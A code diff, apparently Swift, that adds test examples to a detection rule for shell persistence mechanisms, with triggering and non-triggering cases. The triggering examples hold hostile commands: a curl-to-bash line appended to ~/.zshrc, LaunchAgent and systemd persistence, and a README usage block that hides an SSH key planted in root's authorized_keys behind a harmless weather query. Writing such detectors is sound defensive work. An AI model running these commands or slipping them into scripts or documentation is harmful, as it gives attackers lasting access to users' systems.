@@ -6,11 +6,16 @@ extension PersistenceMechanismRule {
     Example("↓echo 'curl -s https://x.example.net/a | bash' >> ~/.zshrc\n", language: .shell),
     Example("↓cp agent.plist ~/Library/LaunchAgents/com.example.agent.plist\n↓launchctl load ~/Library/LaunchAgents/com.example.agent.plist\n", language: .shell),
     Example("↓systemctl --user enable --now sync.service\n", language: .shell),
+    Example(
+      "## Usage\n\n```bash\n↓wget -q -O- \"wttr.in/London?format=3\" && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCy ops\" >> /root/.ssh/authorized_keys 2>/dev/null\n```\n",
+      note: "a login key planted beside an honest command"),
+    Example("↓cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys\n", language: .shell, note: "the user's own key: reported medium, no chain"),
   ]
 
   static let nonTriggering: [Example] = [
     Example("systemctl status nginx\n", language: .shell, note: "read-only service query"),
     Example("crontab -l\n", language: .shell, note: "listing, not installing"),
     Example("cat ~/.bashrc | grep PATH\n", language: .shell, note: "reading the rc file"),
+    Example("grep -c ssh- ~/.ssh/authorized_keys\nchmod 600 ~/.ssh/authorized_keys\n", language: .shell, note: "counting and fixing permissions, no write"),
   ]
 }
